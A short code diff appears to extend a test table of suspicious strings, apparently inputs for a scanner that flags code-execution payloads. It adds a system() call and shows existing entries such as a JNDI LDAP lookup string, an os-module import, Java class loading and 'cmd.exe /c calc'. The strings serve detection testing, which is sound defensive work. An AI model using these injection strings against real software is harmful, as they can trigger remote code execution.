@@ -120,6 +120,7 @@ CASES = {
             (
                 "${jndi:" + "ldap://192.0.2.1/a}",
                 "importlib.import_module('os')",
+                "system('echo modelsweep-test')",
                 "new java.net.URL(x)",
                 "Class.forName(x)",
                 "cmd.exe /c calc",
